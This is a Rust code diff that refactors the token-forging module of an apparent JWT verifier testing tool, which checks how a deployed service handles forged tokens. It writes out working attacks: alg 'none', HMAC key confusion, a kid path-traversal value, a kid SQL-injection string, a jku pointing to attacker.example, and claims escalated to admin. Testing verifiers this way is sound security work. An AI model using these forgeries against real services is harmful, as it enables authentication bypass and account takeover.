@@ -5,12 +5,13 @@
 
 mod attack;
 mod forger;
+mod recipe;
 
 pub use attack::{Attack, AttackFacts};
 
 use base64ct::{Base64UrlUnpadded, Encoding};
 use serde::Serialize;
-use serde_json::{Map, Value, json};
+use serde_json::{Map, Value};
 
 use super::{Against, Fault, deployed::Deployed, is_token, key_lines::AtHand, ladder, segments, times};
 use crate::{
@@ -19,6 +20,7 @@ use crate::{
     policy::PolicyError,
     verdict::StepOutcome,
 };
+use recipe::{Claims, Recipe, Signs, recipe};
 
 /// What is longer is not forged, in bytes: two dozen copies of it would have to be judged and shown.
 const LONGEST: usize = 512 * 1024;
@@ -136,124 +138,77 @@ impl<'t> Original<'t> {
 
     /// What an attacker makes of it; none where this attack asks for another kind of token.
     fn forge(&self, attack: Attack) -> Option<String> {
-        let is_secret = self.algorithm.is_some_and(|algorithm| algorithm.family().is_symmetric());
-        let token = match attack {
-            Attack::PayloadChanged => self.filled(&self.header(&[]), &self.admin()),
-            Attack::SignatureStripped => unsigned(&self.header(&[]), &self.payload()),
-            Attack::SignatureBlank => {
-                let is_ecdsa = self.header.get("alg")?.as_str()?.starts_with("ES");
-                let blank = vec![0; self.signature_bytes];
-                return is_ecdsa.then(|| signed(&self.header(&[]), &self.admin(), |_| blank));
-            }
-            Attack::AlgNone => unsigned(&self.header(&[("alg", json!("none"))]), &self.admin()),
-            Attack::AlgNoneCase => unsigned(&self.header(&[("alg", json!("NoNe"))]), &self.admin()),
-            Attack::HmacConfusion | Attack::HmacConfusionJwk if is_secret => return None,
-            Attack::HmacConfusion => self.by_secret(forger::pem(&self.public_key())?.as_bytes(), None),
-            Attack::HmacConfusionJwk => self.by_secret(Value::Object(self.public_key()).to_string().as_bytes(), None),
-            Attack::SecretGuessed => self.by_secret(b"secret", None),
-            Attack::KidSwap => {
-                let named = self.header.get("kid").and_then(Value::as_str);
-                let other = self.keys.kids.iter().find(|kid| Some(kid.as_str()) != named);
-                let other = other.map_or("another-key", String::as_str);
-                self.filled(&self.header(&[("kid", json!(other))]), &self.payload())
-            }
-            Attack::KidPath => self.by_secret(b"", Some("../../../../../../dev/null")),
-            Attack::KidQuery => self.by_secret(b"secret", Some("x' UNION SELECT 'secret")),
-            Attack::EmbeddedKey => self.by_forger(&[("jwk", Value::Object(forger::jwk()))], &self.admin()),
-            Attack::JkuElsewhere => {
-                self.by_forger(&[("jku", json!("https://attacker.example/jwks.json"))], &self.admin())
-            }
-            Attack::IssuerSwapped => {
-                let mut payload = self.payload.clone();
-                payload.insert("iss".to_owned(), json!("https://attacker.example"));
-                self.by_forger(&[], &text(payload))
-            }
-            Attack::TypeSwapped => self.filled(&self.header(&[("typ", json!("logout+jwt"))]), &self.payload()),
-            Attack::CritUnknown => {
-                let changes = [("crit", json!(["urn:example:pay"])), ("urn:example:pay", json!(true))];
-                self.filled(&self.header(&changes), &self.payload())
-            }
-            Attack::UnencodedPayload => self.filled(&self.header(&[("b64", json!(false))]), &self.payload()),
-            Attack::Compressed => self.filled(&self.header(&[("zip", json!("DEF"))]), &self.payload()),
-            Attack::Nested => self.filled(&self.header(&[("cty", json!("JWT"))]), &self.payload()),
-            Attack::Encrypted => {
-                let header = self.header(&[("alg", json!("RSA-OAEP-256")), ("enc", json!("A256GCM"))]);
-                // The key, the initialization vector, the text and its tag (RFC 7516 §7.1).
-                let parts = [256, 12, self.payload().len(), 16].map(|bytes| encode(&vec![FILLER; bytes]));
-                format!("{}.{}", encode(header.as_bytes()), parts.join("."))
-            }
-            Attack::JsonForm => {
-                let (header, payload) = (encode(self.header(&[]).as_bytes()), encode(self.admin().as_bytes()));
-                let signature = encode(&self.filler());
-                format!(r#"{{"payload":"{payload}","protected":"{header}","signature":"{signature}"}}"#)
-            }
+        let Recipe { changes, claims, signs } = recipe(attack)?;
+        let own = self.algorithm.filter(|algorithm| algorithm.family().is_symmetric());
+        let by_hmac = own.unwrap_or(Algorithm::Hs256);
+        let mut members = self.header.clone();
+        let mut change = |name: &str, value: &str| drop(members.insert(name.to_owned(), value.into()));
+        match signs {
+            Signs::PublicKey | Signs::PublicJwk if own.is_some() => return None,
+            Signs::PublicKey | Signs::PublicJwk | Signs::Secret(_) => change("alg", by_hmac.name()),
+            Signs::Forger => change("alg", "ES256"),
+            Signs::Zeros | Signs::Filler | Signs::Nobody => {}
+        }
+        if attack == Attack::KidSwap {
+            let named = self.header.get("kid").and_then(Value::as_str);
+            let other = self.keys.kids.iter().find(|kid| Some(kid.as_str()) != named);
+            change("kid", other.map_or("another-key", String::as_str));
+        }
+        for (name, value) in changes {
+            members.insert((*name).to_owned(), serde_json::from_str(value).ok()?);
+        }
+        let names_alg = members.get("alg").and_then(Value::as_str);
+        if signs == Signs::Zeros && !names_alg.is_some_and(|name| name.starts_with("ES")) {
+            return None;
+        }
+        if attack == Attack::EmbeddedKey {
+            members.insert("jwk".to_owned(), Value::Object(forger::jwk()));
+        }
+        let mut header = text(members);
+        let mut payload = self.payload(claims);
+        match attack {
+            Attack::DuplicateHeader => header = twice("alg", "none", &header),
             Attack::DuplicateMember => {
                 let name = if self.payload.contains_key("sub") { "sub" } else { self.payload.keys().next()? };
-                self.filled(&self.header(&[]), &twice(name, "admin", &self.payload()))
+                payload = twice(name, "admin", &payload);
             }
-            Attack::DuplicateHeader => {
-                let header = twice("alg", "none", &self.header(&[("alg", self.header.get("alg")?.clone())]));
-                self.filled(&header, &self.payload())
-            }
-            Attack::Base64Padding => {
-                let (header, payload) = (encode(self.header(&[]).as_bytes()), encode(self.payload().as_bytes()));
-                let padding = match payload.len() % 4 {
-                    3 => "=",
-                    _ => "==",
-                };
-                format!("{header}.{payload}{padding}.{}", encode(&self.filler()))
-            }
-            Attack::Base64Whitespace => {
-                let header = encode(self.header(&[]).as_bytes());
-                let (one, two) = header.split_at_checked(header.len() / 2)?;
-                format!("{one}\n{two}.{}.{}", encode(self.payload().as_bytes()), encode(&self.filler()))
-            }
-            // It is not forged.
-            Attack::Expired => return None,
+            _ => {}
+        }
+        let (mut header, mut payload) = (encode(header.as_bytes()), encode(payload.as_bytes()));
+        let message = format!("{header}.{payload}");
+        let signature = match signs {
+            Signs::Filler => vec![FILLER; self.signature_bytes],
+            Signs::Nobody => Vec::new(),
+            Signs::Zeros => vec![0; self.signature_bytes],
+            Signs::Secret(secret) => forger::hmac(by_hmac, secret.as_bytes(), &message),
+            Signs::PublicKey => forger::hmac(by_hmac, forger::pem(&self.public_key())?.as_bytes(), &message),
+            Signs::PublicJwk => forger::hmac(by_hmac, text(self.public_key()).as_bytes(), &message),
+            Signs::Forger => forger::es256(&message),
         };
-        Some(token)
+        let signature = encode(&signature);
+        match attack {
+            Attack::JsonForm => {
+                return Some(format!(r#"{{"payload":"{payload}","protected":"{header}","signature":"{signature}"}}"#));
+            }
+            // The key, the initialization vector, the text and its tag (RFC 7516 §7.1), all of it filler.
+            Attack::Encrypted => return Some(format!("{header}.{signature}.Kioq.{signature}.Kioq")),
+            Attack::Base64Padding => payload.push('='),
+            Attack::Base64Whitespace => header.insert(header.len() / 2, '\n'),
+            _ => {}
+        }
+        Some(format!("{header}.{payload}.{signature}"))
     }
 
-    /// The header with these members.
-    fn header(&self, changes: &[(&str, Value)]) -> String {
-        let mut header = self.header.clone();
-        header.extend(changes.iter().map(|(name, value)| ((*name).to_owned(), value.clone())));
-        text(header)
-    }
-
-    fn payload(&self) -> String {
-        text(self.payload.clone())
-    }
-
-    /// The payload of somebody who may do everything.
-    fn admin(&self) -> String {
+    fn payload(&self, claims: Claims) -> String {
         let mut payload = self.payload.clone();
-        let subject = if payload.get("sub").is_some_and(|sub| sub == "admin") { "root" } else { "admin" };
-        payload.insert("sub".to_owned(), subject.into());
+        let mut change = |name: &str, value: &str| drop(payload.insert(name.to_owned(), value.into()));
+        match claims {
+            Claims::Own => {}
+            Claims::Admin if self.payload.get("sub").is_some_and(|sub| sub == "admin") => change("sub", "root"),
+            Claims::Admin => change("sub", "admin"),
+            Claims::OtherIssuer => change("iss", "https://attacker.example"),
+        }
         text(payload)
-    }
-
-    fn filler(&self) -> Vec<u8> {
-        vec![FILLER; self.signature_bytes]
-    }
-
-    fn filled(&self, header: &str, payload: &str) -> String {
-        signed(header, payload, |_| self.filler())
-    }
-
-    /// Signed by HMAC: with the token's own algorithm where it is one of them, and else by `HS256`.
-    fn by_secret(&self, secret: &[u8], kid: Option<&str>) -> String {
-        let own = self.algorithm.filter(|algorithm| algorithm.family().is_symmetric());
-        let algorithm = own.unwrap_or(Algorithm::Hs256);
-        let mut changes = vec![("alg", json!(algorithm.name()))];
-        changes.extend(kid.map(|kid| ("kid", json!(kid))));
-        signed(&self.header(&changes), &self.admin(), |message| forger::hmac(algorithm, secret, message))
-    }
-
-    /// Signed with the forger's key.
-    fn by_forger(&self, changes: &[(&str, Value)], payload: &str) -> String {
-        let changes = [&[("alg", json!("ES256"))], changes].concat();
-        signed(&self.header(&changes), payload, forger::es256)
     }
 
     /// The public key that everybody has: where none is at hand, the forger's stands in for it.
@@ -269,19 +224,9 @@ fn text(members: Map<String, Value>) -> String {
 /// An object with another value of a member that it has, before all others.
 fn twice(name: &str, value: &str, object: &str) -> String {
     let rest = object.strip_prefix('{').unwrap_or_default();
-    format!("{{{}:{},{rest}", json!(name), json!(value))
+    format!("{{{}:{},{rest}", Value::from(name), Value::from(value))
 }
 
 fn encode(bytes: &[u8]) -> String {
     Base64UrlUnpadded::encode_string(bytes)
-}
-
-fn signed(header: &str, payload: &str, sign: impl FnOnce(&str) -> Vec<u8>) -> String {
-    let input = format!("{}.{}", encode(header.as_bytes()), encode(payload.as_bytes()));
-    let signature = encode(&sign(&input));
-    format!("{input}.{signature}")
-}
-
-fn unsigned(header: &str, payload: &str) -> String {
-    signed(header, payload, |_| Vec::new())
 }
